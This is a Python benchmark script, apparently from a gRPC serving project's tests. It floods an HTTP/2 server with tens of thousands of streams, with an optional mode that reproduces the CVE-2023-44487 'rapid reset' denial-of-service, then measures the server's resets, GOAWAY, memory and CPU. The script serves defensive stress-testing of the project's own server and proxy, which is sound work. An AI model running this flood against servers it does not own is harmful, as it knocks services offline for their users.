#!/usr/bin/python3
"""An HTTP/2 stream flood, run by hand (docs/security.md): one plaintext connection opens N
ListModels streams, past the server's advertised limit of concurrent streams, each sent whole
or reset at once (--reset, as CVE-2023-44487's "rapid reset"). It reads nothing while it sends,
then reads what comes back until --drain seconds pass without a byte, and counts the streams the
server ended, the streams it reset and its GOAWAY. With --pid, the server's resident memory and
CPU are printed every 2 s until both have stood still for 6 s. With --ack, the flood first
acknowledges the server's SETTINGS (its limit of concurrent streams among them), as a
well-behaved client does.

  /usr/bin/python3 tests/bench/stream_flood.py 127.0.0.1:50051 --streams 100000 [--reset]
      [--ack] [--drain 25] [--pid SERVER_PID]

Against attnserve itself, and against nginx in front of it (deploy/nginx/attnserve.conf).
Needs Debian's python3-hyperframe and python3-hpack (python3-h2 brings both), and what
serving_load.py imports (python3-grpcio, python3-numpy), whose reading of a process's CPU it uses.
"""

import argparse
import socket
import threading
import time

from hpack import Encoder
from hyperframe.frame import (DataFrame, Frame, GoAwayFrame, HeadersFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

from serving_load import cpu_seconds

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def flood(sock, host, streams, reset):
    """Sends `streams` streams in batches, returns how many went out before a send failed."""
    encoder = Encoder()
    headers = [(":method", "POST"), (":scheme", "http"),
               (":path", "/attnserve.v1.AttentionService/ListModels"), (":authority", host),
               ("content-type", "application/grpc"), ("te", "trailers")]
    batch, sent = [], 0
    for i in range(streams):
        stream = 2 * i + 1
        frame = HeadersFrame(stream, encoder.encode(headers))
        frame.flags.add("END_HEADERS")
        batch.append(frame.serialize())
        if reset:
            batch.append(RstStreamFrame(stream, error_code=CANCEL).serialize())
        else:
            frame = DataFrame(stream, b"\x00\x00\x00\x00\x00")  # an empty ListModelsRequest
            frame.flags.add("END_STREAM")
            batch.append(frame.serialize())
        if len(batch) >= 2000 or i == streams - 1:
            try:
                sock.sendall(b"".join(batch))
            except OSError as e:
                print(f"a send failed after {sent} streams had gone out: {e}")
                return sent
            sent, batch = i + 1, []
    return sent


def read_all(sock, seconds):
    sock.settimeout(seconds)
    received = bytearray()
    try:
        while chunk := sock.recv(1 << 20):
            received += chunk
    except (socket.timeout, OSError):
        pass
    return received


def count_frames(received):
    """(streams ended by the server, streams it reset, GOAWAY's (last stream, code) or None)."""
    ended, resets, goaway, offset = set(), 0, None, 0
    while offset + 9 <= len(received):
        frame, length = Frame.parse_frame_header(memoryview(received[offset:offset + 9]))
        if offset + 9 + length > len(received):
            break
        frame.parse_body(memoryview(received[offset + 9:offset + 9 + length]))
        offset += 9 + length
        if isinstance(frame, HeadersFrame) and "END_STREAM" in frame.flags:
            ended.add(frame.stream_id)
        elif isinstance(frame, RstStreamFrame):
            resets += 1
        elif isinstance(frame, GoAwayFrame):
            goaway = (frame.last_stream_id, frame.error_code)
    return len(ended), resets, goaway


def watch(pid, stop):
    """Prints the server's RSS and CPU every 2 s until `stop` is set and both stood still for
    6 s."""
    start, start_cpu = time.monotonic(), cpu_seconds(pid)
    still = 0
    last = None
    while True:
        with open(f"/proc/{pid}/status") as f:
            rss = next(int(line.split()[1]) for line in f if line.startswith("VmRSS"))
        cpu = cpu_seconds(pid) - start_cpu
        print(f"  {time.monotonic() - start:5.1f} s: server RSS {rss >> 10} MiB, CPU {cpu:.1f} s",
              flush=True)
        now = (rss >> 10, round(cpu, 1))
        still = still + 1 if now == last else 0
        last = now
        if stop.is_set() and still >= 3:
            return
        time.sleep(2)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("target", help="HOST:PORT, plaintext gRPC")
    parser.add_argument("--streams", type=int, default=100000)
    parser.add_argument("--reset", action="store_true", help="reset each stream at once")
    parser.add_argument("--ack", action="store_true",
                        help="acknowledge the server's SETTINGS before the flood")
    parser.add_argument("--drain", type=float, default=25, help="seconds to read answers")
    parser.add_argument("--pid", type=int, help="the server's pid, to watch its memory")
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    stop = threading.Event()
    watcher = None
    if args.pid:
        watcher = threading.Thread(target=watch, args=(args.pid, stop))
        watcher.start()
    sock = socket.create_connection((host, int(port)))
    # No flow-control stalls on our side: the window is as large as HTTP/2 allows.
    # The server's SETTINGS come first on the connection: an ACK sent blind acknowledges them.
    sock.sendall(PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1 << 30})
                 .serialize() + WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535)
                 .serialize() + (SettingsFrame(0, flags=["ACK"]).serialize() if args.ack else b""))
    began = time.monotonic()
    sent = flood(sock, args.target, args.streams, args.reset)
    print(f"sent {sent} streams ({'reset' if args.reset else 'whole'}) in "
          f"{time.monotonic() - began:.1f} s", flush=True)
    ended, resets, goaway = count_frames(read_all(sock, args.drain))
    sock.close()
    print(f"the server ended {ended} streams, reset {resets}, "
          f"GOAWAY: {'none' if goaway is None else f'last stream {goaway[0]}, code {goaway[1]}'}",
          flush=True)
    if watcher:
        stop.set()
        watcher.join()


if __name__ == "__main__":
    main()
